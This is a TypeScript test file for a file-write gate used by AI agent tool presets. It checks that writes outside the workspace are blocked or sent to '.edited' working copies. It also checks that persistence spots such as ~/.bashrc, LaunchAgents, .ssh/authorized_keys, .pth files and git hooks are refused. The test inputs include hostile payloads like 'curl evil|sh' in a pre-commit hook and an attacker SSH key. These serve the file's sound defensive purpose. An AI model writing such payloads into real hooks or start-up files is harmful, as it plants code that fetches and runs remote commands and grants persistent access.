/**
 * Writes outside the workspace and protected paths, SPEC §5.1, §5.2 and the presets
 * table §5.5: new files anywhere not protected, working copies instead of replacing an
 * existing file (consent preset, or policy.outsideWorkspace 'working-copy'), places
 * where a new file runs code later, and `deny` with allowedPaths.
 */
import fs from 'node:fs'
import path from 'node:path'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { createToolkit, type PresetName, type Session, type ToolResult, type ToolkitOptions } from '../ts/index.js'
import { fails, ok, put, removeTempDirs, tempDir, textOf, workspace, type Fixture } from './helpers.js'

afterAll(removeTempDirs)

const OUTSIDE = 'PATH_OUTSIDE_WORKSPACE'
const read = (p: string) => fs.readFileSync(p, 'utf8')
const exists = (p: string) => fs.existsSync(p)

/** A consent-preset workspace (with src/a.txt) and a separate folder outside it. */
function consent(options: Partial<ToolkitOptions> = {}): Fixture & { out: string } {
  const fx = workspace({ preset: 'consent', ...options })
  put(fx.dir, 'src/a.txt', 'alpha\n')
  return { ...fx, out: tempDir('fsgate-outside-') }
}

/** Calls, and when the gate asks, repeats the call with the phrase it issued. */
async function granting(s: Session, name: string, input: Record<string, unknown>): Promise<ToolResult> {
  const r = await s.call(name, input)
  if (r.error?.code !== 'PERMISSION_REQUIRED') return r
  return s.call(name, { ...input, grant_phrase: r.data?.grantPhrase })
}

/** The write tool's name and input for a preset's dialect. */
function writeCall(preset: PresetName, p: string, content: string): [string, Record<string, unknown>] {
  switch (preset) {
    case 'claude-code':
      return ['Write', { file_path: p, content }]
    case 'consent':
      return ['write_file', { path: p, content, overwrite: true }]
    default:
      return ['file_write', { path: p, content }]
  }
}

// ---------------------------------------------------------------------------------------
describe('consent preset: new files outside the workspace', () => {
  it('are created in place (data.realPath is that path, workingCopy false), with missing folders', async () => {
    const fx = consent()
    const target = path.join(fx.out, 'deep/er/new.md')
    const r = await fx.session.call('write_file', { path: target, content: 'new\n' })
    ok(r)
    expect(r.data?.realPath).toBe(target)
    expect(r.data?.workingCopy).toBe(false)
    expect(r.data?.created).toBe(true)
    expect(read(target)).toBe('new\n')
    expect(exists(path.join(fx.out, 'deep/er/new.edited.md'))).toBe(false)
  })

  it('an existing file without overwrite is FILE_EXISTS and nothing is written', async () => {
    const fx = consent()
    const orig = put(fx.out, 'report.md', 'original\n')
    const r = await fx.session.call('write_file', { path: orig, content: 'x\n' })
    expect(fails(r, 'FILE_EXISTS').startsWith('[error] ')).toBe(true)
    expect(read(orig)).toBe('original\n')
    expect(exists(path.join(fx.out, 'report.edited.md'))).toBe(false)
  })
})

describe('consent preset: an existing file outside is never changed — working copies', () => {
  it('write_file(overwrite) on report.md goes to report.edited.md; the original bytes stay', async () => {
    const fx = consent()
    const bytes = Buffer.from('original\r\nline two\r\n\u00e9\r\n', 'utf8')
    const orig = put(fx.out, 'report.md', bytes)
    const copy = path.join(fx.out, 'report.edited.md')
    const r = await fx.session.call('write_file', { path: orig, content: 'rewritten\n', overwrite: true })
    const text = ok(r)
    expect(text).toContain(copy)
    expect(r.data?.realPath).toBe(copy)
    expect(r.data?.workingCopy).toBe(true)
    expect(read(copy)).toBe('rewritten\n')
    expect(fs.readFileSync(orig).equals(bytes)).toBe(true)
  })

  it('archive.tar.gz → archive.tar.edited.gz', async () => {
    const fx = consent()
    const orig = put(fx.out, 'archive.tar.gz', 'gz bytes\n')
    const r = await fx.session.call('write_file', { path: orig, content: 'other\n', overwrite: true })
    ok(r)
    const copy = path.join(fx.out, 'archive.tar.edited.gz')
    expect(r.data?.realPath).toBe(copy)
    expect(r.data?.workingCopy).toBe(true)
    expect(textOf(r)).toContain(copy)
    expect(read(copy)).toBe('other\n')
    expect(read(orig)).toBe('gz bytes\n')
  })

  it('Makefile → Makefile.edited (write_file)', async () => {
    const fx = consent()
    const orig = put(fx.out, 'Makefile', 'all:\n\techo hi\n')
    const r = await fx.session.call('write_file', { path: orig, content: 'all:\n\techo bye\n', overwrite: true })
    ok(r)
    expect(r.data?.realPath).toBe(path.join(fx.out, 'Makefile.edited'))
    expect(read(path.join(fx.out, 'Makefile.edited'))).toBe('all:\n\techo bye\n')
    expect(read(orig)).toBe('all:\n\techo hi\n')
  })

  it('edit of Makefile goes to Makefile.edited', async () => {
    const fx = consent()
    const orig = put(fx.out, 'Makefile', 'all:\n\techo hi\n')
    const r = await fx.session.call('edit', { path: orig, old_string: 'echo hi', new_string: 'echo edited' })
    ok(r)
    const copy = path.join(fx.out, 'Makefile.edited')
    expect(r.data?.realPath).toBe(copy)
    expect(r.data?.workingCopy).toBe(true)
    expect(textOf(r)).toContain(copy)
    expect(read(copy)).toBe('all:\n\techo edited\n')
    expect(read(orig)).toBe('all:\n\techo hi\n')
  })

  it('edit of report.md goes to report.edited.md, and a second edit continues from the working copy', async () => {
    const fx = consent()
    const orig = put(fx.out, 'report.md', '# Report\n\nfirst para\n\nsecond para\n')
    const copy = path.join(fx.out, 'report.edited.md')
    const r1 = await fx.session.call('edit', { path: orig, old_string: 'first para', new_string: 'FIRST' })
    ok(r1)
    expect(r1.data?.realPath).toBe(copy)
    expect(r1.data?.workingCopy).toBe(true)
    expect(read(copy)).toBe('# Report\n\nFIRST\n\nsecond para\n')
    const r2 = await granting(fx.session, 'edit', { path: orig, old_string: 'second para', new_string: 'SECOND' })
    ok(r2)
    expect(r2.data?.realPath).toBe(copy)
    expect(r2.data?.workingCopy).toBe(true)
    expect(read(copy)).toBe('# Report\n\nFIRST\n\nSECOND\n')
    expect(read(orig)).toBe('# Report\n\nfirst para\n\nsecond para\n')
    expect(exists(path.join(fx.out, 'report.edited.edited.md'))).toBe(false)
  })

  it('a second write_file(overwrite) replaces the working copy (with its folder granted), never the original', async () => {
    const fx = consent()
    const orig = put(fx.out, 'notes.txt', 'orig\n')
    const copy = path.join(fx.out, 'notes.edited.txt')
    ok(await fx.session.call('write_file', { path: orig, content: 'v1\n', overwrite: true }))
    const second = await fx.session.call('write_file', { path: orig, content: 'v2\n', overwrite: true })
    // The working copy now exists: replacing it is a replace in the folder outside.
    fails(second, 'PERMISSION_REQUIRED')
    expect(second.data?.unit).toBe(`${fx.out}${path.sep}`)
    expect(read(copy)).toBe('v1\n')
    ok(await fx.session.call('write_file', { path: orig, content: 'v2\n', overwrite: true, grant_phrase: second.data?.grantPhrase }))
    expect(read(copy)).toBe('v2\n')
    expect(read(orig)).toBe('orig\n')
  })

  it('the working copy itself is replaced in place, behind the gate whose unit is its folder', async () => {
    const fx = consent()
    const orig = put(fx.out, 'report.md', 'orig\n')
    const copy = path.join(fx.out, 'report.edited.md')
    ok(await fx.session.call('write_file', { path: orig, content: 'draft\n', overwrite: true }))
    const asked = await fx.session.call('write_file', { path: copy, content: 'final\n', overwrite: true })
    fails(asked, 'PERMISSION_REQUIRED')
    expect(asked.data?.unit).toBe(`${fx.out}${path.sep}`)
    expect(textOf(asked).startsWith('[permission_required] ')).toBe(true)
    expect(read(copy)).toBe('draft\n')
    const r = await fx.session.call('write_file', { path: copy, content: 'final\n', overwrite: true, grant_phrase: asked.data?.grantPhrase })
    ok(r)
    expect(r.data?.realPath).toBe(copy)
    expect(r.data?.workingCopy).toBe(false)
    expect(read(copy)).toBe('final\n')
    expect(read(orig)).toBe('orig\n')
    expect(exists(path.join(fx.out, 'report.edited.edited.md'))).toBe(false)
  })

  it('edit of the working copy itself is in place, behind the gate', async () => {
    const fx = consent()
    const orig = put(fx.out, 'report.md', 'orig\n')
    const copy = path.join(fx.out, 'report.edited.md')
    ok(await fx.session.call('write_file', { path: orig, content: 'draft text\n', overwrite: true }))
    const asked = await fx.session.call('edit', { path: copy, old_string: 'draft', new_string: 'final' })
    fails(asked, 'PERMISSION_REQUIRED')
    expect(asked.data?.unit).toBe(`${fx.out}${path.sep}`)
    const r = await fx.session.call('edit', { path: copy, old_string: 'draft', new_string: 'final', grant_phrase: asked.data?.grantPhrase })
    ok(r)
    expect(r.data?.realPath).toBe(copy)
    expect(r.data?.workingCopy).toBe(false)
    expect(read(copy)).toBe('final text\n')
    expect(read(orig)).toBe('orig\n')
    expect(exists(path.join(fx.out, 'report.edited.edited.md'))).toBe(false)
  })

  it('a workspace symlink to an existing file outside leads to a working copy beside the real file', async () => {
    const fx = consent()
    const orig = put(fx.out, 'linked.md', 'outside\n')
    fs.symlinkSync(orig, path.join(fx.dir, 'link.md'))
    const r = await fx.session.call('write_file', { path: 'link.md', content: 'via link\n', overwrite: true })
    ok(r)
    expect(r.data?.realPath).toBe(path.join(fx.out, 'linked.edited.md'))
    expect(r.data?.workingCopy).toBe(true)
    expect(read(orig)).toBe('outside\n')
    expect(read(path.join(fx.out, 'linked.edited.md'))).toBe('via link\n')
  })

  // A planted `report.edited.md` symlink must not turn "write the working copy" into
  // "replace another existing file outside in place" (seed 003: not even when granted).
  it('a working-copy name that is a symlink to another existing file outside is PROTECTED_PATH and replaces nothing', async () => {
    const fx = consent({ onPermissionRequest: () => true })
    const orig = put(fx.out, 'report.md', 'orig\n')
    const victim = put(fx.out, 'victim.txt', 'victim\n')
    fs.symlinkSync(victim, path.join(fx.out, 'report.edited.md'))
    const r = await fx.session.call('write_file', { path: orig, content: 'HIJACK\n', overwrite: true })
    expect(fails(r, 'PROTECTED_PATH')).toMatch(/working copy .* is a symlink/)
    expect(read(orig)).toBe('orig\n')
    expect(read(victim)).toBe('victim\n')
  })
})

// ---------------------------------------------------------------------------------------
describe('protected paths outside the workspace (a temp HOME)', () => {
  let home: string
  let savedHome: string | undefined
  let fx: Fixture & { out: string }

  beforeAll(() => {
    savedHome = process.env.HOME
    home = tempDir('fsgate-home-')
    process.env.HOME = home
    fx = consent()
  })

  afterAll(() => {
    if (savedHome === undefined) delete process.env.HOME
    else process.env.HOME = savedHome
  })

  const RUNS_LATER = [
    '.bashrc',
    '.zshenv',
    '.profile',
    '.config/autostart/x.desktop',
    '.config/systemd/user/x.service',
    'Library/LaunchAgents/x.plist',
    '.ssh/authorized_keys',
  ]

  it.each(RUNS_LATER)('~/%s is PROTECTED_PATH even as a new file, and nothing is created', async (rel) => {
    const abs = path.join(home, rel)
    const r = await fx.session.call('write_file', { path: abs, content: 'echo pwned\n' })
    const text = fails(r, 'PROTECTED_PATH')
    expect(text.startsWith('[error] ')).toBe(true)
    expect(text).toMatch(/protected/)
    expect(exists(abs)).toBe(false)
    // No folder of it was made either (mkdir -p comes after the checks).
    const top = path.join(home, rel.split('/')[0])
    if (rel.includes('/')) expect(exists(top)).toBe(false)
    // The `~/` form is refused the same way.
    fails(await fx.session.call('write_file', { path: `~/${rel}`, content: 'echo pwned\n' }), 'PROTECTED_PATH')
    expect(exists(abs)).toBe(false)
  })

  // Shell start-up files beyond the three named ones ("…" in §5.2): Debian/Ubuntu's default
  // ~/.bashrc sources ~/.bash_aliases, Fedora/RHEL's sources ~/.bashrc.d/*, and Debian's X
  // session runs ~/.xsessionrc. A new file there runs code at the next shell or login.
  for (const rel of ['.bash_aliases', '.bashrc.d/x.sh', '.xsessionrc']) {
    it(`~/${rel} (sourced at shell or session start) is PROTECTED_PATH`, async () => {
      const abs = path.join(home, rel)
      try {
        fails(await fx.session.call('write_file', { path: abs, content: 'echo pwned\n' }), 'PROTECTED_PATH')
        expect(exists(abs)).toBe(false)
      } finally {
        fs.rmSync(path.join(home, rel.split('/')[0]), { recursive: true, force: true })
      }
    })
  }

  it('edit with old_string "" cannot create ~/.bashrc either', async () => {
    const r = await fx.session.call('edit', { path: path.join(home, '.bashrc'), old_string: '', new_string: 'echo pwned\n' })
    fails(r, 'PROTECTED_PATH')
    expect(exists(path.join(home, '.bashrc'))).toBe(false)
  })

  it('an existing ~/.bashrc is refused, not redirected to a working copy', async () => {
    const rc = put(home, '.bashrc', '# mine\n')
    try {
      fails(await fx.session.call('write_file', { path: rc, content: 'x\n', overwrite: true }), 'PROTECTED_PATH')
      expect(read(rc)).toBe('# mine\n')
    } finally {
      fs.rmSync(rc)
    }
  })

  it('a workspace symlink pointing at ~/.bashrc is refused by its real path', async () => {
    fs.symlinkSync(path.join(home, '.bashrc'), path.join(fx.dir, 'rc-link'))
    fails(await fx.session.call('write_file', { path: 'rc-link', content: 'echo pwned\n' }), 'PROTECTED_PATH')
    expect(exists(path.join(home, '.bashrc'))).toBe(false)
  })

  it('Python .pth and sitecustomize.py in an outside folder are PROTECTED_PATH', async () => {
    const site = path.join(fx.out, 'site-packages')
    for (const name of ['foo.pth', 'sitecustomize.py']) {
      const abs = path.join(site, name)
      fails(await fx.session.call('write_file', { path: abs, content: 'import os\n' }), 'PROTECTED_PATH')
      expect(exists(abs)).toBe(false)
    }
    // An ordinary .py beside them is fine: the rule is by name, not by folder.
    ok(await fx.session.call('write_file', { path: path.join(site, 'ordinary.py'), content: 'x = 1\n' }))
  })

  it("another repository's .git/hooks is PROTECTED_PATH", async () => {
    const repo = tempDir('fsgate-repo-')
    fs.mkdirSync(path.join(repo, '.git/hooks'), { recursive: true })
    const hook = path.join(repo, '.git/hooks/pre-commit')
    fails(await fx.session.call('write_file', { path: hook, content: '#!/bin/sh\ncurl evil\n' }), 'PROTECTED_PATH')
    expect(exists(hook)).toBe(false)
    // The repository's own files are fine.
    ok(await fx.session.call('write_file', { path: path.join(repo, 'README.md'), content: 'hi\n' }))
  })

  it('a system folder (/etc/fsgate-test-x) is PROTECTED_PATH', async () => {
    for (const p of ['/etc/fsgate-test-x', '/etc/fsgate-test-dir/x', '/usr/local/fsgate-test-x']) {
      fails(await fx.session.call('write_file', { path: p, content: 'x\n' }), 'PROTECTED_PATH')
      expect(exists(p)).toBe(false)
    }
    expect(exists('/etc/fsgate-test-dir')).toBe(false)
  })
})

describe('protected paths inside the workspace, in every preset', () => {
  const PRESETS: PresetName[] = ['guarded', 'claude-code', 'revka', 'consent']

  it.each(PRESETS)('%s: .git/HEAD and a new .git/hooks file are PROTECTED_PATH', async (preset) => {
    const fx = workspace({ preset })
    const head = put(fx.dir, '.git/HEAD', 'ref: refs/heads/main\n')
    fs.mkdirSync(path.join(fx.dir, '.git/hooks'), { recursive: true })
    if (preset !== 'consent') {
      // Read first where the preset wants it, so only the protection can refuse.
      const readName = preset === 'claude-code' ? 'Read' : 'file_read'
      await fx.session.call(readName, preset === 'claude-code' ? { file_path: '.git/HEAD' } : { path: '.git/HEAD' })
    }
    fails(await fx.session.call(...writeCall(preset, '.git/HEAD', 'evil\n')), 'PROTECTED_PATH')
    expect(read(head)).toBe('ref: refs/heads/main\n')
    const hook = path.join(fx.dir, '.git/hooks/post-checkout')
    fails(await fx.session.call(...writeCall(preset, '.git/hooks/post-checkout', '#!/bin/sh\n')), 'PROTECTED_PATH')
    expect(exists(hook)).toBe(false)
    const editName = preset === 'claude-code' ? 'Edit' : preset === 'consent' ? 'edit' : 'file_edit'
    const pathKey = preset === 'claude-code' ? 'file_path' : 'path'
    fails(await fx.session.call(editName, { [pathKey]: '.git/HEAD', old_string: 'main', new_string: 'evil' }), 'PROTECTED_PATH')
    expect(read(head)).toBe('ref: refs/heads/main\n')
  })

  it('a workspace symlink into its own .git is refused by its real path', async () => {
    const fx = workspace({ preset: 'consent' })
    fs.mkdirSync(path.join(fx.dir, '.git/hooks'), { recursive: true })
    fs.symlinkSync(path.join(fx.dir, '.git/hooks'), path.join(fx.dir, 'hooks'))
    fails(await fx.session.call('write_file', { path: 'hooks/pre-commit', content: '#!/bin/sh\n' }), 'PROTECTED_PATH')
    expect(exists(path.join(fx.dir, '.git/hooks/pre-commit'))).toBe(false)
  })

  it.each(PRESETS)('%s: ~/.ssh is protected in a workspace that IS the home folder', async (preset) => {
    const saved = process.env.HOME
    const home = tempDir('fsgate-homews-')
    process.env.HOME = home
    try {
      const fx = workspace({ preset }, home)
      const keys = put(home, '.ssh/authorized_keys', 'ssh-ed25519 AAAA mine\n')
      fails(await fx.session.call(...writeCall(preset, '.ssh/authorized_keys', 'ssh-ed25519 AAAA evil\n')), 'PROTECTED_PATH')
      fails(await fx.session.call(...writeCall(preset, '.ssh/config', 'Host *\n')), 'PROTECTED_PATH')
      expect(read(keys)).toBe('ssh-ed25519 AAAA mine\n')
      expect(exists(path.join(home, '.ssh/config'))).toBe(false)
      // An ordinary file in that workspace is fine.
      ok(await fx.session.call(...writeCall(preset, 'notes.txt', 'n\n')))
    } finally {
      if (saved === undefined) delete process.env.HOME
      else process.env.HOME = saved
    }
  })
})

// ---------------------------------------------------------------------------------------
describe("outsideWorkspace 'deny' (guarded, claude-code, revka)", () => {
  const DENY: PresetName[] = ['guarded', 'claude-code', 'revka']

  it.each(DENY)('%s: a new file outside is PATH_OUTSIDE_WORKSPACE and nothing is created', async (preset) => {
    const fx = workspace({ preset })
    const out = tempDir('fsgate-outside-')
    const target = path.join(out, 'sub/new.txt')
    fails(await fx.session.call(...writeCall(preset, target, 'x\n')), OUTSIDE)
    expect(exists(target)).toBe(false)
    expect(exists(path.join(out, 'sub'))).toBe(false)
    const editName = preset === 'claude-code' ? 'Edit' : 'file_edit'
    const pathKey = preset === 'claude-code' ? 'file_path' : 'path'
    fails(await fx.session.call(editName, { [pathKey]: target, old_string: '', new_string: 'x\n' }), OUTSIDE)
    expect(exists(target)).toBe(false)
  })

  it.each(DENY)('%s: an existing file outside is refused and unchanged (no working copy)', async (preset) => {
    const fx = workspace({ preset })
    const out = tempDir('fsgate-outside-')
    const orig = put(out, 'report.md', 'orig\n')
    fails(await fx.session.call(...writeCall(preset, orig, 'x\n')), OUTSIDE)
    expect(read(orig)).toBe('orig\n')
    expect(exists(path.join(out, 'report.edited.md'))).toBe(false)
  })

  it.each(DENY)('%s: `..` escapes and symlinks that leave the workspace are refused', async (preset) => {
    const root = tempDir('fsgate-escape-')
    const wsDir = path.join(root, 'ws')
    fs.mkdirSync(wsDir)
    const fx = workspace({ preset }, wsDir)
    const secret = put(root, 'secret.txt', 'secret\n')
    fs.symlinkSync(root, path.join(wsDir, 'up'))
    fs.symlinkSync(secret, path.join(wsDir, 'secret-link.txt'))
    fails(await fx.session.call(...writeCall(preset, '../escaped.txt', 'x\n')), OUTSIDE)
    fails(await fx.session.call(...writeCall(preset, 'a/../../escaped.txt', 'x\n')), OUTSIDE)
    expect(exists(path.join(root, 'escaped.txt'))).toBe(false)
    fails(await fx.session.call(...writeCall(preset, 'up/via-link.txt', 'x\n')), OUTSIDE)
    expect(exists(path.join(root, 'via-link.txt'))).toBe(false)
    fails(await fx.session.call(...writeCall(preset, 'secret-link.txt', 'x\n')), OUTSIDE)
    expect(read(secret)).toBe('secret\n')
  })

  it('revka: policy.allowedPaths lets writes into that folder land in place (new and existing)', async () => {
    const allowed = tempDir('fsgate-allowed-')
    const existing = put(allowed, 'data.txt', 'old\n')
    const fx = workspace({ preset: 'revka', policy: { allowedPaths: [allowed] } })
    const fresh = path.join(allowed, 'sub/new.txt')
    const r1 = await fx.session.call('file_write', { path: fresh, content: 'new\n' })
    ok(r1)
    expect(r1.data?.realPath).toBe(fresh)
    expect(r1.data?.workingCopy).toBe(false)
    expect(read(fresh)).toBe('new\n')
    const r2 = await fx.session.call('file_write', { path: existing, content: 'replaced\n' })
    ok(r2)
    expect(r2.data?.realPath).toBe(existing)
    expect(r2.data?.workingCopy).toBe(false)
    expect(read(existing)).toBe('replaced\n')
    expect(exists(path.join(allowed, 'data.edited.txt'))).toBe(false)
    // A workspace symlink into the allowed folder is fine too: its real target is allowed.
    fs.symlinkSync(allowed, path.join(fx.dir, 'shared'))
    ok(await fx.session.call('file_write', { path: 'shared/via-link.txt', content: 'l\n' }))
    expect(read(path.join(allowed, 'via-link.txt'))).toBe('l\n')
    // A folder beside it is still denied.
    const other = tempDir('fsgate-other-')
    fails(await fx.session.call('file_write', { path: path.join(other, 'x.txt'), content: 'x\n' }), OUTSIDE)
    expect(exists(path.join(other, 'x.txt'))).toBe(false)
  })

  it('revka: file_edit of a file in allowedPaths edits it in place', async () => {
    const allowed = tempDir('fsgate-allowed-')
    const existing = put(allowed, 'conf.ini', 'debug = false\n')
    const fx = workspace({ preset: 'revka', policy: { allowedPaths: [allowed] } })
    const r = await fx.session.call('file_edit', { path: existing, old_string: 'false', new_string: 'true' })
    ok(r)
    expect(r.data?.realPath).toBe(existing)
    expect(read(existing)).toBe('debug = true\n')
  })
})

describe("policy.outsideWorkspace 'working-copy' on the guarded preset", () => {
  it('new files outside are created in place', async () => {
    const fx = workspace({ preset: 'guarded', policy: { outsideWorkspace: 'working-copy' } })
    const out = tempDir('fsgate-outside-')
    const target = path.join(out, 'new.txt')
    const r = await fx.session.call('file_write', { path: target, content: 'n\n' })
    ok(r)
    expect(r.data?.realPath).toBe(target)
    expect(r.data?.workingCopy).toBe(false)
    expect(read(target)).toBe('n\n')
  })

  it('protected places stay protected', async () => {
    const fx = workspace({ preset: 'guarded', policy: { outsideWorkspace: 'working-copy' } })
    const out = tempDir('fsgate-outside-')
    fails(await fx.session.call('file_write', { path: path.join(out, 'evil.pth'), content: 'x\n' }), 'PROTECTED_PATH')
    expect(exists(path.join(out, 'evil.pth'))).toBe(false)
  })

  // Guarded keeps read-before-write, but file_read refuses every path outside the roots;
  // since an outside original is never replaced, its working copy needs no read.
  it('an existing file outside, never readable, is written to its working copy without a read', async () => {
    const fx = workspace({ preset: 'guarded', policy: { outsideWorkspace: 'working-copy' } })
    const out = tempDir('fsgate-outside-')
    const orig = put(out, 'report.md', 'orig\n')
    fails(await fx.session.call('file_read', { path: orig }), 'PATH_OUTSIDE_WORKSPACE')
    const r = await granting(fx.session, 'file_write', { path: orig, content: 'new\n' })
    ok(r)
    expect(r.data?.realPath).toBe(path.join(out, 'report.edited.md'))
    expect(r.data?.workingCopy).toBe(true)
    expect(read(orig)).toBe('orig\n')
  })
})

// ---------------------------------------------------------------------------------------
describe('the presets table (§5.5), switch by switch, by behaviour', () => {
  const WRITE_NAMES: Array<[string, Record<string, unknown>]> = [
    ['file_write', { path: 'src/a.txt', content: 'x\n' }],
    ['Write', { file_path: 'src/a.txt', content: 'x\n' }],
    ['write_file', { path: 'src/a.txt', content: 'x\n', overwrite: true }],
    ['file_edit', { path: 'src/a.txt', old_string: 'alpha', new_string: 'x' }],
    ['Edit', { file_path: 'src/a.txt', old_string: 'alpha', new_string: 'x' }],
    ['edit', { path: 'src/a.txt', old_string: 'alpha', new_string: 'x' }],
    ['file_write', { path: 'src/new.txt', content: 'x\n' }],
    ['edit', { path: 'src/new2.txt', old_string: '', new_string: 'x\n' }],
  ]

  /** autonomy: read_only refuses every write and edit name; nothing changes on disk. */
  async function expectReadOnly(preset: PresetName): Promise<void> {
    const fx = workspace({ preset, policy: { autonomy: 'read_only' } })
    put(fx.dir, 'src/a.txt', 'alpha\n')
    for (const [name, input] of WRITE_NAMES) {
      const r = await fx.session.call(name, input)
      expect(fails(r, 'AUTONOMY'), name).toMatch(/read.only/i)
    }
    expect(read(path.join(fx.dir, 'src/a.txt'))).toBe('alpha\n')
    expect(exists(path.join(fx.dir, 'src/new.txt'))).toBe(false)
    expect(exists(path.join(fx.dir, 'src/new2.txt'))).toBe(false)
    // Reading is still allowed.
    ok(await fx.session.call('file_read', { path: 'src/a.txt' }))
  }

  function setup(preset?: PresetName) {
    const fx = workspace(preset === undefined ? {} : { preset })
    put(fx.dir, 'src/a.txt', 'alpha\n')
    return { ...fx, out: tempDir('fsgate-outside-'), file: path.join(fx.dir, 'src/a.txt') }
  }

  it('guarded (the default): read-before-write on, gate on, outside deny, supervised', async () => {
    const fx = setup()
    expect(fx.toolkit.presetName).toBe('guarded')
    expect(fx.toolkit.preset.autonomy).toBe('supervised')
    const notRead = await fx.session.call('file_write', { path: 'src/a.txt', content: 'x\n' })
    fails(notRead, 'NOT_READ')
    expect(notRead.error?.errorCode).toBe(2)
    ok(await fx.session.call('file_read', { path: 'src/a.txt' }))
    const gated = await fx.session.call('file_write', { path: 'src/a.txt', content: 'x\n' })
    fails(gated, 'PERMISSION_REQUIRED')
    expect(read(fx.file)).toBe('alpha\n')
    ok(await fx.session.call('file_write', { path: 'src/a.txt', content: 'x\n', grant_phrase: gated.data?.grantPhrase }))
    expect(read(fx.file)).toBe('x\n')
    const orig = put(fx.out, 'o.txt', 'o\n')
    fails(await fx.session.call('file_write', { path: orig, content: 'x\n' }), OUTSIDE)
    fails(await fx.session.call('file_write', { path: path.join(fx.out, 'new.txt'), content: 'x\n' }), OUTSIDE)
    expect(read(orig)).toBe('o\n')
    expect(exists(path.join(fx.out, 'o.edited.txt'))).toBe(false)
    expect(exists(path.join(fx.out, 'new.txt'))).toBe(false)
    await expectReadOnly('guarded')
  })

  it('claude-code: read-before-write on, no gate, outside deny, full', async () => {
    const fx = setup('claude-code')
    expect(fx.toolkit.preset.autonomy).toBe('full')
    const notRead = await fx.session.call('Write', { file_path: 'src/a.txt', content: 'x\n' })
    fails(notRead, 'NOT_READ')
    expect(notRead.error?.errorCode).toBe(2)
    ok(await fx.session.call('Read', { file_path: 'src/a.txt' }))
    ok(await fx.session.call('Write', { file_path: 'src/a.txt', content: 'x\n' }))
    expect(read(fx.file)).toBe('x\n')
    const orig = put(fx.out, 'o.txt', 'o\n')
    fails(await fx.session.call('Write', { file_path: orig, content: 'x\n' }), OUTSIDE)
    fails(await fx.session.call('Write', { file_path: path.join(fx.out, 'new.txt'), content: 'x\n' }), OUTSIDE)
    expect(read(orig)).toBe('o\n')
    expect(exists(path.join(fx.out, 'new.txt'))).toBe(false)
    await expectReadOnly('claude-code')
  })

  it('revka: no read-before-write, no gate, outside deny unless allowlisted, supervised', async () => {
    const fx = setup('revka')
    expect(fx.toolkit.preset.autonomy).toBe('supervised')
    ok(await fx.session.call('file_write', { path: 'src/a.txt', content: 'x\n' }))
    expect(read(fx.file)).toBe('x\n')
    fails(await fx.session.call('file_write', { path: path.join(fx.out, 'new.txt'), content: 'x\n' }), OUTSIDE)
    expect(exists(path.join(fx.out, 'new.txt'))).toBe(false)
    const allowed = workspace({ preset: 'revka', policy: { allowedPaths: [fx.out] } }, fx.dir)
    ok(await allowed.session.call('file_write', { path: path.join(fx.out, 'new.txt'), content: 'x\n' }))
    expect(read(path.join(fx.out, 'new.txt'))).toBe('x\n')
    await expectReadOnly('revka')
  })

  it('consent: no read-before-write, gate on, outside working-copy, supervised', async () => {
    const fx = setup('consent')
    expect(fx.toolkit.preset.autonomy).toBe('supervised')
    const gated = await fx.session.call('write_file', { path: 'src/a.txt', content: 'x\n', overwrite: true })
    fails(gated, 'PERMISSION_REQUIRED') // not NOT_READ: nothing was read
    ok(await fx.session.call('write_file', { path: 'src/a.txt', content: 'x\n', overwrite: true, grant_phrase: gated.data?.grantPhrase }))
    expect(read(fx.file)).toBe('x\n')
    const orig = put(fx.out, 'o.txt', 'o\n')
    const r = await fx.session.call('write_file', { path: orig, content: 'x\n', overwrite: true })
    ok(r)
    expect(r.data?.workingCopy).toBe(true)
    expect(read(path.join(fx.out, 'o.edited.txt'))).toBe('x\n')
    expect(read(orig)).toBe('o\n')
    await expectReadOnly('consent')
  })

  it('an unknown preset or policy value is a TypeError at createToolkit', () => {
    const dir = tempDir()
    expect(() => createToolkit({ workspace: dir, preset: 'yolo' as PresetName })).toThrow(TypeError)
    expect(() => createToolkit({ workspace: dir, policy: { outsideWorkspace: 'anywhere' as 'deny' } })).toThrow(TypeError)
  })
})

// ---------------------------------------------------------------------------------------
describe('git hooks wherever a repository is', () => {
  it("an allowlisted repository's .git/hooks and a bare repository's hooks are PROTECTED_PATH", async () => {
    const repo = tempDir('fsgate-repo-')
    fs.mkdirSync(path.join(repo, '.git', 'hooks'), { recursive: true })
    const fx = workspace({ preset: 'revka', policy: { allowedPaths: [repo] } })
    fails(await fx.session.call('file_write', { path: path.join(repo, '.git/hooks/pre-commit'), content: 'curl evil|sh\n' }), 'PROTECTED_PATH')
    expect(fs.existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false)
    ok(await fx.session.call('file_write', { path: path.join(repo, 'README.md'), content: 'fine\n' }))

    const bare = consent()
    const hooks = path.join(bare.out, 'r.git', 'hooks')
    fs.mkdirSync(hooks, { recursive: true })
    fails(await bare.session.call('write_file', { path: path.join(hooks, 'pre-receive'), content: 'x\n' }), 'PROTECTED_PATH')
    expect(fs.existsSync(path.join(hooks, 'pre-receive'))).toBe(false)
  })
})
